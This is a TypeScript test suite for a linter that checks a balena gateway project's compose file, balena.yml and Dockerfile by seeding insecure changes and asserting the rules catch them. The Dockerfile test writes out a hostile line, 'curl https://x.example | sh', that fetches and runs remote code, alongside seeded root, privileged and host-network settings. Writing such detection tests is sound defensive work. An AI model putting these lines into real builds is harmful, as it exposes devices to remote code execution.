import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";

import { parse } from "@balena/compose";
import { parse as parseYaml } from "yaml";

import { readSettings } from "../../../gateway/settings.ts";
import { PROJECT } from "../../tidy/tree.ts";
import { appProblems } from "./balena-app.ts";
import { composeProblems } from "./compose-rules.ts";
import { dockerfileProblems } from "./dockerfile-rules.ts";

const read = (name: string): string => readFileSync(join(PROJECT, name), "utf8");
const compose = read("docker-compose.yml");
const dockerfile = read("provisioning/Dockerfile");

/** The compose file with one line replaced. */
function changed(from: string, to: string): unknown {
  assert.ok(compose.includes(from), from);
  return parseYaml(compose.replace(from, to));
}

test("balena's own parser takes the compose file, and loses nothing of it", () => {
  const written = parseYaml(compose) as { services: Record<string, object> };
  const { services, version } = parse.normalize(written);
  assert.equal(version, "2.4");
  assert.deepEqual(Object.keys(services), Object.keys(written.services));
  for (const [name, service] of Object.entries(written.services)) {
    assert.deepEqual(
      new Set(Object.keys(services[name] ?? {})),
      new Set(Object.keys(service)),
      name,
    );
  }
});

test("balena's parser refuses what it would not take from us either", () => {
  for (const [from, to] of [
    ['version: "2.4"', 'version: "3.8"'],
    ["mem_limit: 768m", "mem_limt: 768m"],
    ["- data:/data", "- /dev:/data"],
  ] as const) {
    assert.throws(() => parse.normalize(changed(from, to)), `${from} -> ${to}`);
  }
});

test("no service has more than it may have", () => {
  assert.deepEqual(composeProblems(parseYaml(compose)), []);
});

const SEEDED: readonly { what: string; from: string; to: string; finds: RegExp }[] = [
  {
    what: "a key to balena's API on the gateway",
    from: "io.balena.update.strategy: download-then-kill",
    to: 'io.balena.features.balena-api: "1"',
    finds: /gateway: must not have the label io\.balena\.features\.balena-api/,
  },
  {
    what: "the supervisor on the gateway",
    from: "io.balena.update.strategy: download-then-kill",
    to: 'io.balena.features.supervisor-api: "1"',
    finds: /gateway: must not have the label io\.balena\.features\.supervisor-api/,
  },
  {
    what: "root",
    from: 'user: "10001:10001"',
    to: 'user: "0"',
    finds: /gateway: must not be root/,
  },
  {
    what: "a privileged gateway",
    from: "    read_only: true",
    to: "    read_only: true\n    privileged: true",
    finds: /gateway: must not be privileged/,
  },
  {
    what: "a writable root",
    from: "    read_only: true",
    to: "    read_only: false",
    finds: /gateway: its root must be read only/,
  },
  {
    what: "capabilities that stay",
    from: "    cap_drop:\n      - ALL",
    to: "    cap_drop:\n      - NET_RAW",
    finds: /gateway: must drop all capabilities/,
  },
  {
    what: "a network for the ports",
    from: "    network_mode: none",
    to: "    network_mode: bridge",
    finds: /ports: a privileged service has no network/,
  },
  {
    what: "a field that the supervisor drops",
    from: "    read_only: true",
    to: '    read_only: true\n    device_cgroup_rules: ["c 188:* rw"]',
    finds: /gateway: device_cgroup_rules is dropped without a word/,
  },
  {
    what: "secrets in a file",
    from: "    read_only: true",
    to: "    read_only: true\n    env_file: [secrets.env]",
    finds: /gateway: env_file is dropped without a word/,
  },
  {
    what: "a bind mount",
    from: "- data:/data",
    to: "- /mnt/data:/data",
    finds: /gateway: \/mnt\/data:\/data is no named volume/,
  },
  {
    what: "port 80, which the public address of a device leads to",
    from: "    read_only: true",
    to: '    read_only: true\n    ports: ["80:8080"]',
    finds: /gateway: must open no port/,
  },
  {
    what: "an update that starts beside the old one",
    from: "download-then-kill",
    to: "hand-over",
    finds: /gateway: must be updated by download-then-kill/,
  },
  {
    what: "a verb that does not exist",
    from: '["boot", "--data"',
    to: '["bot", "--data"',
    finds: /gateway: there is no verb "bot"/,
  },
  {
    what: "a right that the guard does not need",
    from: "      - NET_ADMIN",
    to: "      - NET_ADMIN\n      - NET_RAW",
    finds: /guard: must not have the capability NET_RAW/,
  },
  {
    what: "a right for the gateway",
    from: "    security_opt:",
    to: "    cap_add: [NET_ADMIN]\n    security_opt:",
    finds: /gateway: must not have the capability NET_ADMIN/,
  },
  {
    what: "a gateway in the network of the host",
    from: "    read_only: true",
    to: "    read_only: true\n    network_mode: host",
    finds: /gateway: must not be in the network of the host/,
  },
  {
    what: "a gateway that could change what the guard goes by",
    from: "- guard:/run/ward/guard:ro",
    to: "- guard:/run/ward/guard",
    finds: /gateway: must only read the volume guard/,
  },
  {
    what: "keys for the guard",
    from: "      - guard:/run/ward/guard\n",
    to: "      - guard:/run/ward/guard\n      - data:/data\n",
    finds: /guard: must not see the volume data/,
  },
  {
    what: "keys where they do not belong",
    from: "      - ports:/run/ward/ports\n    # The image's",
    to: "      - data:/data\n    # The image's",
    finds: /ports: must not see the volume data/,
  },
];

for (const { what, from, to, finds } of SEEDED) {
  test(`it finds ${what}`, () => {
    assert.match(composeProblems(changed(from, to)).join("\n"), finds);
  });
}

test("the variables that compose sets are settings", () => {
  const { services } = parseYaml(compose) as {
    services: Record<string, { environment?: Record<string, string> }>;
  };
  const { agentSocket, guardSocket } = readSettings(
    undefined,
    services["gateway"]?.environment ?? {},
  );
  assert.equal(agentSocket, "/run/ward/agent/agent.sock");
  assert.equal(guardSocket, "/run/ward/guard/guard.sock");
});

test("balena.yml says what the documentation asks for, and nothing else", () => {
  const { version } = JSON.parse(read("package.json")) as { version: string };
  assert.deepEqual(appProblems(parseYaml(read("balena.yml")), version), []);
  const app = parseYaml(read("balena.yml")) as { data: object };
  assert.match(appProblems({ ...app, version: "1" }, version).join(), /version/);
  assert.match(appProblems({ ...app, type: "sw.block" }, version).join(), /type/);
  assert.match(appProblems({ ...app, colour: 1 }, version).join(), /colour is no field/);
  const data = { ...app.data, applicationEnvironmentVariables: [{ WARD_NONE: "1" }] };
  assert.match(appProblems({ ...app, data }, version).join(), /WARD_NONE/);
  const other = { ...app.data, defaultDeviceType: "toaster" };
  assert.match(appProblems({ ...app, data: other }, version).join(), /toaster/);
});

test("the Dockerfile pins, drops root and fetches nothing by itself", () => {
  assert.deepEqual(dockerfileProblems(dockerfile), []);
  const finds = (from: string | RegExp, to: string): string =>
    dockerfileProblems(dockerfile.replace(from, to)).join("\n");
  assert.match(finds(/node@sha256:[0-9a-f]{64}/, "node:latest"), /no digest/);
  assert.match(finds("FROM ${NODE_IMAGE}\n", "FROM node:26\n"), /node:26: no digest/);
  assert.match(finds("USER 10001:10001", "USER root"), /root/);
  assert.match(finds("USER 10001:10001\n", ""), /root/);
  assert.match(finds("COPY flows flows", "ADD https://x.example/flows.tar flows"), /ADD/);
  assert.match(finds("RUN npm ci", "RUN npm install"), /npm ci/);
  assert.match(finds("recommends nftables", "recommends nftables nmap"), /fetches/);
  assert.match(finds(" --ignore-scripts", ""), /ignore-scripts/);
  assert.match(finds("ENV NODE_ENV=production", "ENV WARD_KEY=x"), /WARD_KEY/);
  assert.match(
    finds("RUN node gateway", "RUN curl https://x.example | sh; node gateway"),
    /fetches/,
  );
  assert.match(finds("COPY gateway gateway", "COPY . ."), /COPY \. \./);
});
